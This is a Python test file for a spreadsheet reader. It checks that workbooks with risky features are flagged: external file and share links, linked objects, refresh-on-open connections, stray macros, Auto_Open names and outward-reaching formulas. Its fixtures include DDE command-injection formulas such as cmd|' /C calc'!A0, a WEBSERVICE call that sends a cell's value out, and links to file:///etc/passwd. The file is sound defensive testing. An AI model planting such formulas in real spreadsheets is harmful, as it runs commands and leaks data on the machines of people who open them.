"""What acts by itself or reaches out is named; an ordinary workbook has none of it."""

from __future__ import annotations

from xml.sax.saxutils import escape

import pytest

from evalxl.xlsx import read_grid
from tests.cli.conftest import DATA
from tests.generator.xml import change_part, with_part

from .parcels import book

PLAIN = min((DATA / "forms").glob("*.xlsx"), key=lambda one: one.stat().st_size).read_bytes()
_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def linked(kind: str, target: str) -> bytes:
    arrow = (
        f'<Relationship Id="rId97" Type="{_TYPE}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )
    return change_part(PLAIN, "xl/_rels/workbook.xml.rels", "</Relationships>", arrow)


def told(content: bytes, name: str = "a.xlsx") -> str:
    return "; ".join(english for _, english in read_grid(content, name).active)


@pytest.mark.parametrize("target", ["https://www.gov.cn/a", "mailto:a@b.cn", "#Sheet1!A1"])
def test_links_to_the_web_and_within_the_form_are_left_alone(target: str) -> None:
    assert told(PLAIN) == ""
    assert told(linked("hyperlink", target)) == ""


@pytest.mark.parametrize("target", ["file:///C:/a.exe", "\\\\server\\share\\a.xlsx", "//server/a"])
def test_links_to_files_and_shares_are_named(target: str) -> None:
    assert told(linked("hyperlink", target)) == f"a link to a file or share: {target}"


def test_linked_objects_are_named() -> None:
    assert "a linked oleObject" in told(linked("oleObject", "file:///C:/a.doc"))


def test_connections_that_refresh_on_opening_are_named() -> None:
    part = '<connections><connection id="1" refreshOnLoad="1"/></connections>'
    assert told(with_part(PLAIN, "xl/connections.xml", part)) == "data refreshed on opening"


def test_macros_in_a_workbook_without_macros_are_named() -> None:
    content = with_part(PLAIN, "xl/vbaProject.bin", "x")
    assert told(content) == "macros"
    assert told(content, "a.xlsm") == ""


def computed(formula: str) -> bytes:
    return book(f"<row><c><f>{escape(formula)}</f><v>1</v></c></row>")


@pytest.mark.parametrize(
    ("formula", "called"),
    [
        ('_xlfn.WEBSERVICE("http://a/?"&H14)', "WEBSERVICE"),
        ('1+RTD("a.b",,"c")', "RTD"),
        ("excel|a!A1", "DDE"),
        ("cmd|' /C calc'!A0", "DDE"),
        ("MSEXCEL|'\\..\\..\\cmd.exe'!A1", "DDE"),
        ("'cmd'|'it''s'!A0", "DDE"),
    ],
)
def test_formulas_that_reach_out_are_named(formula: str, called: str) -> None:
    assert told(computed(formula)) == f"a function that reaches out: {called}"


@pytest.mark.parametrize("target", ["\\\\10.0.0.1\\c$", "file:///etc/passwd", "C:\\a.exe"])
def test_links_that_formulas_make_are_named_like_others(target: str) -> None:
    formula = f'IF(A2>0,HYPERLINK( "{target}","点"),"")'
    assert told(computed(formula)) == f"a link to a file or share: {target}"


@pytest.mark.parametrize(
    "formula",
    [
        'A1&"|x!"',
        "SUM('甲|乙'!A1:A3)",
        '"HYPERLINK(""file:x"")"',
        'HYPERLINK("#表!A1")',
        'HYPERLINK("https://www.gov.cn/a")',
        'SUBSTITUTE(A1,"WEBSERVICE(","")',
    ],
)
def test_formulas_that_only_look_so_are_left_alone(formula: str) -> None:
    assert told(computed(formula)) == ""


def test_a_name_that_runs_on_opening_is_named() -> None:
    name = '<definedNames><definedName name="Auto_Open">Macro1!$A$1</definedName></definedNames>'
    content = change_part(PLAIN, "xl/workbook.xml", "</sheets>", f"</sheets>{name}")
    assert told(content) == "a name that runs on opening: Auto_Open"
